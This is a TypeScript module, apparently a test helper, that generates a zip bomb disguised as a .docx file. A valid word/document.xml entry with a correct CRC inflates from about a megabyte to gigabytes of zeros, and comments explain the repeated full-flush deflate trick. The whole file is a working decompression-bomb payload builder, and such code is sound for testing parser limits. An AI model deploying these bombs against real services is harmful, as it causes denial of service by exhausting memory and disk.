import { constants, crc32, deflateRawSync } from 'node:zlib'

// A .docx-shaped zip bomb: one entry, word/document.xml, that inflates from
// about a megabyte to `unpackedMiB` MiB of zeros. Deflating a gigabyte would
// take the attacker seconds; instead one MiB of zeros is deflated once with a
// full flush (byte-aligned, no back-references across the boundary) and the
// result repeated, then closed with an empty final block. The CRC is real, so
// the bomb is a valid zip to any reader.

/** Build the bomb (≤ 4095 MiB unpacked: no zip64). */
export function docxZipBomb(unpackedMiB: number): Uint8Array<ArrayBuffer> {
  const chunk = Buffer.alloc(1024 * 1024)
  const block = deflateRawSync(chunk, { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const compressed = Buffer.concat([...Array.from({ length: unpackedMiB }, () => block), Buffer.from([0x03, 0x00])])
  let crc = 0
  for (let i = 0; i < unpackedMiB; i++) crc = crc32(chunk, crc)
  const size = unpackedMiB * chunk.length
  const name = Buffer.from('word/document.xml')

  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(20, 4) // version needed
  local.writeUInt16LE(0, 6) // flags
  local.writeUInt16LE(8, 8) // deflate
  local.writeUInt32LE(0, 10) // time, date
  local.writeUInt32LE(crc >>> 0, 14)
  local.writeUInt32LE(compressed.length, 18)
  local.writeUInt32LE(size >>> 0, 22)
  local.writeUInt16LE(name.length, 26)
  local.writeUInt16LE(0, 28)

  const central = Buffer.alloc(46)
  central.writeUInt32LE(0x02014b50, 0)
  central.writeUInt16LE(20, 4) // version made by
  central.writeUInt16LE(20, 6)
  central.writeUInt16LE(0, 8)
  central.writeUInt16LE(8, 10)
  central.writeUInt32LE(0, 12)
  central.writeUInt32LE(crc >>> 0, 16)
  central.writeUInt32LE(compressed.length, 20)
  central.writeUInt32LE(size >>> 0, 24)
  central.writeUInt16LE(name.length, 28)
  // extra, comment, disk, attributes, local header offset 0
  const centralOffset = local.length + name.length + compressed.length

  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length + name.length, 12)
  end.writeUInt32LE(centralOffset, 16)
  return new Uint8Array(Buffer.concat([local, name, compressed, central, name, end]))
}
